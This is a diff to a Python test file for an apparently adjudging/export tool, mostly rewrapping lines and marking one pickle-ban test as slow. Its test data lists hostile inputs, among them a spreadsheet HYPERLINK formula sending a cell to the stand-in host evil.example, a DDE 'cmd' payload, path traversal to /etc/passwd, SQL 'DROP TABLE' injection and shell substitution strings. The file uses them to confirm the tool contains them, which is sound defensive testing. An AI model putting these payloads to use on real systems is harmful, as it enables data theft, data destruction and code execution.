@@ -24,12 +24,16 @@ from fakeserver import Answer, FakeServer, Request, chat
 from running import DIRECT, ROOT, adjudge, as_id, model_at, prompt_of, write_rows
 
 CELLS = (
-    "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''", "'", "' quoted'", "it's",
-    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)", 'a,"b\r\nc",d', "a\rb", "a;b\tc",
+    "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''", "'", "' quoted'",
+    "it's",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)", 'a,"b\r\nc",d',
+    "a\rb", "a;b\tc",
 )  # fmt: skip
 NAMES = (
-    "../../x", "/etc/passwd", "C:\\x\\..\\y", "CON", "nul.txt", "aux", "'; DROP TABLE results;--", '"; DROP TABLE runs;--',
-    "a/b\\c", ".", "..", "~", "$(touch pwned)", "`touch pwned`", "-rf", "%00", "{{response}}", "{0.__class__}",
+    "../../x", "/etc/passwd", "C:\\x\\..\\y", "CON", "nul.txt", "aux", "'; DROP TABLE results;--",
+    '"; DROP TABLE runs;--',
+    "a/b\\c", ".", "..", "~", "$(touch pwned)", "`touch pwned`", "-rf", "%00", "{{response}}",
+    "{0.__class__}",
 )  # fmt: skip
 
 
@@ -53,7 +57,8 @@ def export_of(texts: list[str], folder: Path) -> tuple[Path, list[dict[str, Any]
     items = write_rows(
         folder / "items.jsonl",
         (
-            {"id": as_id(f"{text}{k}"), "system": text, "group": text, "instruction": "Say.", "response": f"answer <{k}>"}
+            {"id": as_id(f"{text}{k}"), "system": text, "group": text, "instruction": "Say.",
+            "response": f"answer <{k}>"}
             for k, text in enumerate(texts)
         ),
     )  # fmt: skip
@@ -123,7 +128,8 @@ def check_names(names: list[str], folder: Path) -> None:
     inside.mkdir()
     items = write_rows(
         inside / "items.jsonl",
-        ({"id": name, "system": name, "instruction": "Say.", "response": f"answer {k}."} for k, name in enumerate(names)),
+        ({"id": name, "system": name, "instruction": "Say.", "response": f"answer {k}."} for k,
+        name in enumerate(names)),
     )  # fmt: skip
     store = inside / "adjudge.db"
     common = ("--store", store)
@@ -142,7 +148,8 @@ def check_names(names: list[str], folder: Path) -> None:
     made = {path.relative_to(folder).as_posix() for path in folder.rglob("*")}
     assert made <= {
         "inside", *(f"inside/{name}" for name in (
-            "items.jsonl", "adjudge.db", "adjudge.db-wal", "adjudge.db-shm", "out.jsonl", "out.csv", "out.parquet",
+            "items.jsonl", "adjudge.db", "adjudge.db-wal", "adjudge.db-shm", "out.jsonl", "out.csv",
+            "out.parquet",
         )),
     }  # fmt: skip
 
@@ -201,6 +208,7 @@ def test_a_pickle_in_the_store_is_damage_and_is_never_loaded(tmp_path: Path) -> 
     assert not proof.exists()
 
 
+@pytest.mark.slow
 def test_no_module_can_load_a_pickle() -> None:
     banned = {
         "pickle",
